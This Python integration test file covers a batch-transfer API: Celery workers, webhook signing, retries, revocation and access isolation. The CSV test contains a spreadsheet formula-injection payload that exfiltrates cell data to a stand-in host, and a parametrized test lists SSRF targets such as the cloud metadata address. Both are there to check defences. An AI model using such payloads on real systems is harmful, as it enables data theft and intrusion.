"""Batch transfers over real components: Maillage's API (Django's client), a real Celery worker process
on the "batches" queue, the sandbox providers in their own gunicorn process, a webhook receiver on
loopback, PostgreSQL and Redis."""

import csv
import io
import json
import os
import signal
import subprocess
import sys
import threading
import time
import uuid
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
import pytest
from django.db.models import Count, Max
from django.db.models.fields.json import KT

from exchange.batches import Claimed, _call, batches_sweep, webhook_url_allowed
from exchange.models import (
    ApiProduct,
    ApiScope,
    Batch,
    BatchItem,
    BatchItemStatus,
    BatchStatus,
    Credential,
    WebhookStatus,
)
from exchange.services import (
    credential_new_secret,
    credential_revoke,
    habilitation_create,
    habilitation_transition,
)
from exchange.webhooks import SIGNATURE_HEADER, sign, verify_signature
from protection.models import JournalEntry
from tests.celery_worker import start_worker
from tests.exchange.conftest import CONTACTS
from tests.exchange.test_gateway import access_token
from tests.exchange.test_sandbox_providers import TOKEN, pivot
from tests.servers import free_port, stop_gunicorn

pytestmark = pytest.mark.django_db(transaction=True)
BASE_DIR = Path(__file__).resolve().parents[2]
BATCHES = "/api/v1/batches/"
PATH = "v1/quotient-familial"
# Small leases and backoffs, so that expiries and retries happen within a test.
WORKER_ENV = {
    "SECURE_COOKIES": "0",
    "BATCH_LEASE_SECONDS": "3",
    "BATCH_RETRY_BASE_MS": "300",
    "BATCH_MAX_ATTEMPTS": "5",
    "WEBHOOK_RETRY_BASE_MS": "300",
    "BATCH_CONCURRENCY": "8",
}


# --- real processes ------------------------------------------------------------------------------------


class Providers:
    """The sandbox providers under gunicorn on a fixed port, which a test may stop and start again."""

    def __init__(self, token_file: Path):
        self.port = free_port()
        self.url = f"http://127.0.0.1:{self.port}"
        self.token_file = token_file
        self.process = None

    def start(self):
        environment = {"PATH": "/usr/bin:/bin", "SANDBOX_PROVIDERS_TOKEN_FILE": str(self.token_file)}
        self.process = subprocess.Popen(
            [str(Path(sys.executable).parent / "gunicorn"), "exchange.sandbox_providers.wsgi:application",
             "--bind", f"127.0.0.1:{self.port}", "--workers", "1", "--worker-class", "gthread",
             "--threads", "8", "--log-level", "warning"],
            cwd=BASE_DIR, env=environment,
        )  # fmt: skip
        deadline = time.monotonic() + 20
        while True:
            try:
                httpx.get(f"{self.url}/healthz", timeout=1)
                return
            except httpx.TransportError:
                if time.monotonic() > deadline or self.process.poll() is not None:
                    self.process.kill()
                    raise RuntimeError("the sandbox providers did not start") from None
                time.sleep(0.1)

    def _processes(self) -> list[int]:
        children = Path(f"/proc/{self.process.pid}/task/{self.process.pid}/children").read_text().split()
        return [self.process.pid, *map(int, children)]

    def pause(self):
        """SIGSTOP: connections are accepted by the kernel, never answered (a provider that hangs)."""
        for pid in self._processes():
            os.kill(pid, signal.SIGSTOP)

    def resume(self):
        for pid in self._processes():
            os.kill(pid, signal.SIGCONT)

    def stop(self):
        stop_gunicorn(self.process)


@pytest.fixture(scope="module")
def providers(tmp_path_factory):
    token_file = tmp_path_factory.mktemp("providers") / "token"
    token_file.write_text(TOKEN + "\n")
    server = Providers(token_file)
    server.start()
    yield server
    server.stop()


class Workers:
    """The batch worker of this module (a real `celery worker` on the batches queue), restartable."""

    def __init__(self, log_dir):
        self.log_dir = log_dir
        self.current = None

    def start(self):
        self.current = start_worker(self.log_dir, env=WORKER_ENV, queues=["batches"])
        return self.current

    def kill(self):
        os.kill(self.current.process.pid, signal.SIGKILL)
        self.current.process.wait(timeout=10)


@pytest.fixture(scope="module")
def workers(django_db_setup, tmp_path_factory):
    from platform_core.celery import app

    with app.connection_for_write() as connection:  # messages a previous, interrupted run left behind
        connection.default_channel.queue_purge("batches")
    pool = Workers(tmp_path_factory.mktemp("batch-worker"))
    pool.start()
    yield pool
    pool.current.stop()


class Receiver:
    """A webhook receiver on loopback: records each delivery; answers 500 to the first ``fail`` ones."""

    def __init__(self, fail: int = 0):
        self.fail = fail
        self.deliveries: list[tuple[dict, bytes, int]] = []
        receiver = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self):  # noqa: N802 - http.server's naming
                body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
                status = 500 if len(receiver.deliveries) < receiver.fail else 204
                receiver.deliveries.append((dict(self.headers), body, status))
                self.send_response(status)
                self.send_header("Content-Length", "0")
                self.end_headers()

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/maillage/webhook"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def receiver():
    server = Receiver()
    yield server
    server.close()


# --- the contract and the calls --------------------------------------------------------------------------


@pytest.fixture
def contract(world, providers, settings):
    settings.SECURE_COOKIES = False  # http webhooks on loopback, as under `make run`
    settings.BATCH_CHUNK_SIZE = 100
    api = ApiProduct.objects.create(
        slug="caf-qf", name="Quotient familial", provider=world["provider"], description="QF",
        upstream_base_url=f"{providers.url}/caf", upstream_auth="bearer", upstream_secret=TOKEN,
        published=True,
    )  # fmt: skip
    qf = ApiScope.objects.create(
        api=api, code="caf_qf", label="QF", fields=["quotientFamilial", "annee", "mois"]
    )
    ApiScope.objects.create(api=api, code="caf_adresse", label="Adresse", fields=["adresse"])
    habilitation = habilitation_create(
        applicant=world["applicant"], consumer=world["consumer"], api=api, scopes=[qf], title="Cantine",
        purpose="Tarif", legal_basis_nature="deliberation", legal_basis_url="https://mairie.example.fr/d.pdf",
        retention_months=12, contacts=CONTACTS,
    )  # fmt: skip
    habilitation_transition(habilitation, "submit", user=world["applicant"])
    habilitation_transition(habilitation, "validate", user=world["instructor"])
    credential = Credential.objects.get(habilitation=habilitation)
    secret = credential_new_secret(credential, user=world["applicant"])
    return {"habilitation": habilitation, "credential": credential, "secret": secret, "world": world}


@pytest.fixture
def token(client, contract):
    return access_token(client, contract)


def submit(client, contract, token, body, *, key=None, content_type="application/x-ndjson", **params):
    query = {
        "api": "caf-qf",
        "path": PATH,
        "recipient": contract["world"]["consumer"].siret,
        "purpose": str(contract["habilitation"].public_id),
        **params,
    }
    headers = {"HTTP_AUTHORIZATION": f"Bearer {token}"}
    if key is not False:
        headers["HTTP_IDEMPOTENCY_KEY"] = key or uuid.uuid4().hex
    address = BATCHES + "?" + "&".join(f"{name}={value}" for name, value in query.items())
    return client.generic("POST", address, body, content_type=content_type, **headers)


def jsonl(items) -> bytes:
    return "".join(json.dumps(item) + "\n" for item in items).encode()


PEOPLE = [pivot("angela"), pivot("tomasz"), {**pivot("angela"), "nomNaissance": "INCONNU"}]


def items(count: int) -> list[dict]:
    """Angela (found), Tomasz (found, abroad-born) and an unknown person (404), in turn."""
    return [{**PEOPLE[index % 3], "case_id": f"dossier-{index + 1}"} for index in range(count)]


def wait_for(client, contract, batch_id, status=BatchStatus.COMPLETED, timeout=60.0, sweep=False) -> dict:
    """Polls the batch's state as a client would; ``sweep``: runs the sweeper every second, as beat does."""
    deadline = time.monotonic() + timeout
    token = access_token(client, contract)
    swept = time.monotonic()
    while True:
        if sweep and time.monotonic() - swept > 1:
            batches_sweep()
            swept = time.monotonic()
        answer = client.get(f"{BATCHES}{batch_id}", HTTP_AUTHORIZATION=f"Bearer {token}")
        if answer.status_code == 401:  # access tokens live 60 s: the client asks for another
            token = access_token(client, contract)
            continue
        assert answer.status_code == 200, answer.content
        if answer.json()["status"] == status:
            return answer.json()
        assert time.monotonic() < deadline, (
            f"the batch is still {answer.json()}: "
            f"{list(BatchItem.objects.values('status', 'chunk').annotate(count=Count('id')))}"
        )
        time.sleep(0.2)


def items_in(batch, status) -> int:
    return BatchItem.objects.filter(batch=batch, status=status).count()


def batch_entries(batch_id):
    # The journal's data is json (not jsonb: kept as written): compared as text.
    return JournalEntry.objects.annotate(batch=KT("data__batch"), line=KT("data__line")).filter(
        event_type="exchange.gateway_call", batch=str(batch_id)
    )


def create_secret(client, token, **body) -> str:
    answer = client.post(f"{BATCHES}webhook-secrets/", body, content_type="application/json",
                         HTTP_AUTHORIZATION=f"Bearer {token}")  # fmt: skip
    assert answer.status_code == 201, answer.content
    return answer.json()["secret"]


# --- tests ---------------------------------------------------------------------------------------------


def test_a_jsonl_batch_runs_to_completion_journaled_per_item_with_a_signed_webhook(
    client, contract, token, workers, receiver
):
    first, second = create_secret(client, token), create_secret(client, token)  # a rotation: both active

    answer = submit(client, contract, token, jsonl(items(300)), webhook_url=receiver.url)

    assert answer.status_code == 202, answer.content
    batch_id = answer.json()["id"]
    assert answer["Location"].endswith(f"/api/v1/batches/{batch_id}") and answer.json()["total"] == 300
    status = wait_for(client, contract, batch_id)
    assert (status["done"], status["failed"], status["pending"], status["percent"]) == (300, 0, 0, 100.0)
    assert status["started_at"] and status["finished_at"]
    results = client.get(f"{BATCHES}{batch_id}/results.jsonl", HTTP_AUTHORIZATION=f"Bearer {token}")
    rows = [json.loads(line) for line in b"".join(results.streaming_content).decode().splitlines()]
    assert [row["line"] for row in rows] == list(range(1, 301)) and rows[0]["case_id"] == "dossier-1"
    assert rows[0]["http_status"] == 200 and rows[0]["result"]["quotientFamilial"] == 820
    assert "adresse" not in rows[0]["result"] and "allocataires" not in rows[0]["result"]  # not granted
    assert rows[2]["status"] == "done" and rows[2]["http_status"] == 404  # unknown person: a result
    assert rows[2]["error"] == "unknown_person"
    # Every item journaled once, for its person, with the batch and its line.
    entries = batch_entries(batch_id)
    assert entries.count() == 300 and entries.values("line").distinct().count() == 300
    angela = entries.get(line="1")
    assert angela.subject and angela.data["case_id"] == "dossier-1" and angela.outcome == "success"
    assert entries.get(line="3").outcome == "failure"
    assert angela.subject == entries.get(line="4").subject != entries.get(line="2").subject
    assert "DUBOIS" not in json.dumps([entry.data for entry in entries])
    # The webhook: one delivery, signed with both active secrets.
    deadline = time.monotonic() + 10
    while not receiver.deliveries and time.monotonic() < deadline:
        time.sleep(0.1)
    [(headers, body, _status)] = receiver.deliveries
    assert verify_signature(headers[SIGNATURE_HEADER], body, [first])
    assert verify_signature(headers[SIGNATURE_HEADER], body, [second])
    assert headers[SIGNATURE_HEADER].count("v1=") == 2
    notification = json.loads(body)
    assert notification["id"] == batch_id and notification["status"] == "completed"
    assert notification["type"] == "batch.completed"
    assert notification["done"] == 300 and notification["results_url"].endswith("/results.jsonl")
    # Marked delivered once the receiver's answer is back in the worker, just after the receiver saw it.
    while Batch.objects.get(public_id=batch_id).webhook_status != WebhookStatus.DELIVERED:
        assert time.monotonic() < deadline, Batch.objects.get(public_id=batch_id).webhook_status
        time.sleep(0.1)
    assert first not in json.dumps(list(JournalEntry.objects.values_list("data", flat=True)))


def test_a_csv_batch_gives_csv_results(client, contract, token, workers):
    rows = items(5)
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=[*pivot("angela"), "annee", "mois", "case_id"])
    writer.writeheader()
    rows[1]["case_id"] = '=HYPERLINK("https://evil.example/?x="&A1)'  # a formula, for a spreadsheet
    for row in rows:
        writer.writerow({**row, "annee": "2026", "mois": "10"})

    answer = submit(client, contract, token, buffer.getvalue().encode(), content_type="text/csv")

    assert answer.status_code == 202, answer.content
    batch_id = answer.json()["id"]
    assert answer.json()["format"] == "csv"
    wait_for(client, contract, batch_id)
    results = client.get(f"{BATCHES}{batch_id}/results.csv", HTTP_AUTHORIZATION=f"Bearer {token}")
    assert results["Content-Type"].startswith("text/csv")
    table = list(csv.DictReader(io.StringIO(b"".join(results.streaming_content).decode())))
    assert [row["line"] for row in table] == ["2", "3", "4", "5", "6"]  # the file's lines, header is 1
    assert table[0]["case_id"] == "dossier-1" and table[0]["quotientFamilial"] == "820"
    assert table[0]["mois"] == "10" and "adresse" not in table[0]
    assert table[2]["http_status"] == "404" and table[2]["quotientFamilial"] == ""
    assert table[1]["case_id"] == "'" + rows[1]["case_id"]  # quoted: read as text, never run


def test_invalid_lines_are_named_and_nothing_is_created(client, contract, token):
    body = jsonl([pivot("angela")]) + b"{not json\n" + jsonl([pivot("angela"), {"nomNaissance": "X"}])
    body += jsonl([{**pivot("angela"), "recipient": "13002526500013"}, {**pivot("angela"), "sexe": "X"}])
    body += jsonl([{"numeroFiscal": "1234567890123"}, {"case_id": "dossier-8"}])  # fine; no parameter

    answer = submit(client, contract, token, body)

    assert answer.status_code == 400 and answer["Content-Type"] == "application/problem+json"
    errors = answer.json()["errors"]
    assert [error["field"] for error in errors] == ["line 2", "line 4", "line 5", "line 6", "line 8"]
    assert errors[1]["code"] == "required"
    assert not Batch.objects.exists() and not BatchItem.objects.exists()


def test_more_than_100000_items_are_refused(client, contract, token):
    line = json.dumps(pivot("angela")).encode() + b"\n"

    answer = submit(client, contract, token, line * 100_001)

    assert answer.status_code == 413 and answer.json()["type"].endswith("batch-too-large")
    assert not Batch.objects.exists() and not BatchItem.objects.exists()


def test_the_context_and_the_key_are_required(client, contract, token, settings):
    body = jsonl(items(1))
    assert submit(client, contract, token, body, key=False).status_code == 400
    answer = submit(client, contract, token, body, recipient="35600000000048")
    assert answer.status_code == 400 and answer.json()["errors"][0]["field"] == "recipient"
    assert submit(client, contract, token, body, content_type="application/json").status_code == 415
    assert client.post(BATCHES, body, content_type="application/x-ndjson").status_code == 401
    # A webhook needs a secret, and https (plain http only on loopback in development).
    assert (
        submit(client, contract, token, body, webhook_url="https://mairie.example.fr/hook").status_code == 409
    )
    create_secret(client, token)
    settings.SECURE_COOKIES = True
    answer = submit(client, contract, token, body, webhook_url="http://127.0.0.1:9/hook")
    assert answer.status_code == 400 and answer.json()["errors"][0]["field"] == "webhook_url"
    assert (
        submit(client, contract, token, body, webhook_url="https://mairie.example.fr/hook").status_code == 202
    )


def test_the_same_idempotency_key_gives_the_same_batch_and_another_body_is_refused(client, contract, token):
    body = jsonl(items(3))

    first = submit(client, contract, token, body, key="depot-2026-11-29")
    again = submit(client, contract, token, body, key="depot-2026-11-29")
    other = submit(client, contract, token, jsonl(items(4)), key="depot-2026-11-29")

    assert first.status_code == again.status_code == 202
    assert again.json()["id"] == first.json()["id"] and again["Idempotent-Replayed"] == "true"
    assert other.status_code == 422 and other.json()["type"].endswith("idempotency-key-reused")
    assert Batch.objects.count() == 1 and BatchItem.objects.count() == 3
    assert JournalEntry.objects.filter(event_type="exchange.batch_submitted").count() == 1


def test_another_organisation_does_not_see_the_batch(client, contract, token, world):
    batch_id = submit(client, contract, token, jsonl(items(2))).json()["id"]
    habilitation = habilitation_create(
        applicant=world["stranger"], consumer=world["other"], api=contract["habilitation"].api,
        title="Autre", scopes=list(ApiScope.objects.filter(code="caf_qf")), purpose="Tarif",
        legal_basis_nature="deliberation",
        legal_basis_url="https://autre.example.fr/d.pdf", retention_months=12, contacts=CONTACTS,
    )  # fmt: skip
    habilitation_transition(habilitation, "submit", user=world["stranger"])
    habilitation_transition(habilitation, "validate", user=world["instructor"])
    credential = Credential.objects.get(habilitation=habilitation)
    stranger = {"credential": credential, "secret": credential_new_secret(credential, user=world["stranger"])}
    theirs = access_token(client, stranger)

    for address in ("", "/results.jsonl", "/results.csv"):
        answer = client.get(f"{BATCHES}{batch_id}{address}", HTTP_AUTHORIZATION=f"Bearer {theirs}")
        assert answer.status_code == 404 and answer["Content-Type"] == "application/problem+json"
    assert client.get(f"{BATCHES}{batch_id}", HTTP_AUTHORIZATION=f"Bearer {token}").status_code == 200


def test_items_are_retried_while_the_provider_is_down_and_done_once_it_is_back(
    client, contract, token, workers, providers
):
    providers.stop()
    try:
        batch_id = submit(client, contract, token, jsonl(items(30))).json()["id"]
        deadline = time.monotonic() + 30
        while not BatchItem.objects.filter(attempts__gte=2, error_code="upstream-failure").exists():
            assert time.monotonic() < deadline, "no retry seen"
            time.sleep(0.1)
    finally:
        providers.start()

    status = wait_for(client, contract, batch_id)

    assert (status["done"], status["failed"]) == (30, 0)
    items_ = BatchItem.objects.filter(batch__public_id=batch_id)
    assert set(items_.values_list("status", flat=True)) == {BatchItemStatus.DONE}
    assert items_.aggregate(most=Max("attempts"))["most"] >= 2
    assert set(items_.values_list("result_status", flat=True)) == {200, 404}
    assert batch_entries(batch_id).count() == 30  # journaled once each, when done, not per attempt


def test_items_fail_with_the_fault_code_when_the_provider_stays_down(
    client, contract, token, workers, providers
):
    providers.stop()
    try:
        batch_id = submit(client, contract, token, jsonl(items(4))).json()["id"]
        status = wait_for(client, contract, batch_id, timeout=90)
    finally:
        providers.start()

    assert (status["done"], status["failed"], status["pending"]) == (0, 4, 0)
    items_ = BatchItem.objects.filter(batch__public_id=batch_id)
    assert set(items_.values_list("attempts", "error_code", "status")) == {(5, "upstream-failure", "failed")}
    entries = batch_entries(batch_id)
    assert entries.count() == 4 and {entry.data["reason"] for entry in entries} == {"upstream-failure"}


def test_a_worker_killed_mid_batch_leaves_every_item_done_exactly_once(
    client, contract, token, workers, providers, settings
):
    settings.BATCH_LEASE_SECONDS = 3  # the worker's (WORKER_ENV): a batch without progress for 3 s is stalled
    batch_id = submit(client, contract, token, jsonl(items(2000))).json()["id"]
    batch = Batch.objects.get(public_id=batch_id)
    deadline = time.monotonic() + 60
    while Batch.objects.get(pk=batch.pk).processed_count < 200:
        assert time.monotonic() < deadline
        time.sleep(0.02)

    providers.pause()  # the worker's calls hang: it is killed with items claimed, mid-chunk
    try:
        while items_in(batch, BatchItemStatus.PROCESSING) == 0:
            assert time.monotonic() < deadline
            time.sleep(0.02)
        workers.kill()  # SIGKILL: no acknowledgement, claims left as they were
    finally:
        providers.resume()
    batch.refresh_from_db()
    assert batch.status == BatchStatus.RUNNING and batch.processed_count < 2000
    assert items_in(batch, BatchItemStatus.PROCESSING) > 0
    # Claimed items stay with the dead worker until their lease ends; the message it had reserved but not
    # started is with Redis until its visibility timeout (an hour). The sweeper hands both out again.
    workers.start()

    status = wait_for(client, contract, batch_id, timeout=90, sweep=True)

    assert (status["done"], status["failed"]) == (2000, 0)
    items_ = BatchItem.objects.filter(batch=batch)
    assert items_.filter(status=BatchItemStatus.DONE).count() == 2000
    attempts = dict(items_.values_list("attempts").annotate(count=Count("id")))
    assert set(attempts) <= {1, 2} and attempts[1] >= 1800  # only the claims the kill interrupted: twice
    per_line = batch_entries(batch_id).values("line").annotate(count=Count("id"))
    assert len(per_line) == 2000 and {row["count"] for row in per_line} == {1}


def test_revoking_the_credential_mid_batch_stops_it_failed_without_another_call_to_the_provider(
    client, contract, token, workers, providers, receiver
):
    secret = create_secret(client, token)
    batch_id = submit(client, contract, token, jsonl(items(900)), webhook_url=receiver.url).json()["id"]
    batch = Batch.objects.get(public_id=batch_id)
    deadline = time.monotonic() + 60
    while Batch.objects.get(pk=batch.pk).processed_count < 100:
        assert time.monotonic() < deadline
        time.sleep(0.02)

    providers.pause()  # the calls in flight hang: the revocation lands between two rounds of calls
    try:
        while items_in(batch, BatchItemStatus.PROCESSING) == 0:
            assert time.monotonic() < deadline
            time.sleep(0.02)
        credential_revoke(contract["credential"], user=contract["world"]["applicant"])
        # What may still reach the provider: the items already answered or claimed (sent, or about to be).
        reached = BatchItem.objects.filter(batch=batch).exclude(status=BatchItemStatus.PENDING).count()
    finally:
        providers.resume()
    while Batch.objects.get(pk=batch.pk).status != BatchStatus.FAILED:
        assert time.monotonic() < deadline + 30, Batch.objects.get(pk=batch.pk).status
        time.sleep(0.1)

    batch.refresh_from_db()
    items_ = BatchItem.objects.filter(batch=batch)
    answered = items_.filter(status=BatchItemStatus.DONE)
    refused = items_.filter(status=BatchItemStatus.FAILED)
    assert batch.processed_count == 900 and batch.failed_count == refused.count() >= 900 - reached
    assert answered.count() + refused.count() == 900 and answered.count() <= reached
    assert set(refused.values_list("error_code", "result_status")) == {("gateway-unauthenticated", 401)}
    assert not refused.filter(result__isnull=False).exists()  # nothing came back from the provider for them
    # Every item journaled once for its person: the refused ones as refused calls.
    entries = batch_entries(batch_id)
    assert entries.count() == 900 and entries.values("line").distinct().count() == 900
    refused_lines = {str(line) for line in refused.values_list("line", flat=True)}
    assert {
        (entry.outcome, entry.data.get("reason")) for entry in entries if entry.line in refused_lines
    } == {("failure", "gateway-unauthenticated")}
    [finished] = JournalEntry.objects.filter(event_type="exchange.batch_finished", contract=str(
        contract["credential"].authorization.public_id))  # fmt: skip
    assert finished.outcome == "failure" and finished.data["status"] == "failed"
    # The consumer is told, with the secret it still holds (the notification carries no personal data).
    while not receiver.deliveries:
        assert time.monotonic() < deadline + 40
        time.sleep(0.1)
    [(headers, body, _status)] = receiver.deliveries
    notification = json.loads(body)
    assert verify_signature(headers[SIGNATURE_HEADER], body, [secret])
    assert (notification["type"], notification["status"]) == ("batch.failed", "failed")
    assert notification["failed"] == refused.count() and notification["done"] == answered.count()


def test_the_webhook_is_retried_when_the_receiver_fails(client, contract, token, workers):
    secret = create_secret(client, token)
    receiver = Receiver(fail=1)
    try:
        batch_id = submit(client, contract, token, jsonl(items(2)), webhook_url=receiver.url).json()["id"]
        wait_for(client, contract, batch_id)
        deadline = time.monotonic() + 20
        while Batch.objects.get(public_id=batch_id).webhook_status != WebhookStatus.DELIVERED:
            assert time.monotonic() < deadline
            time.sleep(0.1)
    finally:
        receiver.close()

    assert [status for _headers, _body, status in receiver.deliveries] == [500, 204]
    assert all(
        verify_signature(headers[SIGNATURE_HEADER], body, [secret])
        for headers, body, _s in receiver.deliveries
    )
    attempts = JournalEntry.objects.filter(event_type="exchange.batch_webhook").order_by("id")
    assert [(entry.outcome, entry.data["attempt"], entry.data["status"]) for entry in attempts] == [
        ("failure", 1, 500),
        ("success", 2, 204),
    ]
    assert Batch.objects.get(public_id=batch_id).webhook_attempts == 2


def test_webhook_secrets_rotate_and_retire(client, contract, token):
    def post(body):
        return client.post(f"{BATCHES}webhook-secrets/", body, content_type="application/json",
                           HTTP_AUTHORIZATION=f"Bearer {token}").json()  # fmt: skip

    old, new = post({}), post({"retire_others_in": 3600})
    listed = client.get(f"{BATCHES}webhook-secrets/", HTTP_AUTHORIZATION=f"Bearer {token}").json()
    assert {row["id"] for row in listed} == {old["id"], new["id"]} and "secret" not in listed[0]
    assert next(row for row in listed if row["id"] == old["id"])["expires_at"] is not None

    gone = client.delete(f"{BATCHES}webhook-secrets/{old['id']}", HTTP_AUTHORIZATION=f"Bearer {token}")

    assert gone.status_code == 204
    codes = list(JournalEntry.objects.filter(event_type__startswith="exchange.webhook_secret").values_list(
        "event_type", flat=True))  # fmt: skip
    assert sorted(codes) == ["exchange.webhook_secret_created"] * 2 + ["exchange.webhook_secret_retired"]
    assert old["secret"] not in json.dumps(list(JournalEntry.objects.values_list("data", flat=True)))


def test_verify_signature_refuses_stale_tampered_and_unknown_signatures():
    body = b'{"id":"1","status":"completed"}'
    now = time.time()
    header = sign(body, ["whsec_new", "whsec_old"], timestamp=int(now))

    assert verify_signature(header, body, ["whsec_old"], now=now)
    assert verify_signature(header, body, ["whsec_new"], now=now + 299)
    assert not verify_signature(header, body, ["whsec_new"], now=now + 301)  # stale: a replay
    assert not verify_signature(header, body + b" ", ["whsec_new"], now=now)
    assert not verify_signature(header, body, ["whsec_other"], now=now)
    assert not verify_signature("v1=" + header.split("v1=")[1], body, ["whsec_new"], now=now)  # no t=
    stale = sign(body, ["whsec_new"], timestamp=int(now) - 301)
    assert not verify_signature(stale, body, ["whsec_new"])


def test_batches_are_read_only_in_the_admin_with_their_progress(client, contract, token, admin_client):
    batch_id = submit(client, contract, token, jsonl(items(2))).json()["id"]
    batch = Batch.objects.get(public_id=batch_id)

    listing = admin_client.get("/admin/exchange/batch/")
    page = admin_client.get(f"/admin/exchange/batch/{batch.pk}/change/")

    assert listing.status_code == 200 and batch_id in listing.content.decode()
    assert page.status_code == 200 and "/ 2 (" in page.content.decode()
    assert admin_client.get("/admin/exchange/batch/add/").status_code == 403


@pytest.mark.parametrize(
    ("url", "secure", "allowed"),
    [
        ("https://hooks.mairie.example.fr/maillage", True, True),
        ("https://10.0.0.7/hook", True, False),  # private network
        ("https://169.254.169.254/latest/meta-data", True, False),  # link-local (cloud metadata)
        ("https://[::1]/hook", True, False),
        ("https://127.0.0.1/hook", True, False),
        ("https://localhost/hook", True, False),
        ("http://127.0.0.1:9000/hook", True, False),  # plain http in production
        ("http://127.0.0.1:9000/hook", False, True),  # plain http on loopback in development
        ("http://hooks.mairie.example.fr/hook", False, False),
        ("https://user:pass@hooks.mairie.example.fr/hook", True, False),
        ("ftp://hooks.mairie.example.fr/hook", True, False),
    ],
)
def test_webhooks_never_call_into_a_private_network(url, secure, allowed, settings):
    settings.SECURE_COOKIES = secure
    assert webhook_url_allowed(url) is allowed


def test_a_webhook_name_resolving_to_a_private_address_is_refused_at_delivery(settings):
    settings.SECURE_COOKIES = True
    assert (
        webhook_url_allowed("https://localhost.localdomain.invalid/hook") is True
    )  # not resolved at submission
    assert (
        webhook_url_allowed("https://localhost.localdomain.invalid/hook", resolve=True) is False
    )  # no address
    assert webhook_url_allowed("https://localhost/hook", resolve=True) is False


def test_a_private_webhook_address_is_refused_at_submission(client, contract, token, settings):
    settings.SECURE_COOKIES = True
    create_secret(client, token)
    answer = submit(client, contract, token, jsonl(items(1)), webhook_url="https://10.0.0.7/hook")
    assert answer.status_code == 400 and answer["Content-Type"] == "application/problem+json"
    assert not Batch.objects.exists()


def test_a_provider_refusing_maillage_is_a_fault_to_retry_not_the_items_result(contract, providers):
    ApiProduct.objects.update(upstream_secret="not-the-providers-token")
    batch = Batch(api=ApiProduct.objects.get(slug="caf-qf"), path=PATH, public_id=uuid.uuid4())
    outcome = _call(batch, Claimed(pk=1, line=1, attempts=1, params=pivot("angela"), case_id=""))
    assert outcome.fault is not None and outcome.fault.code == "upstream-failure"
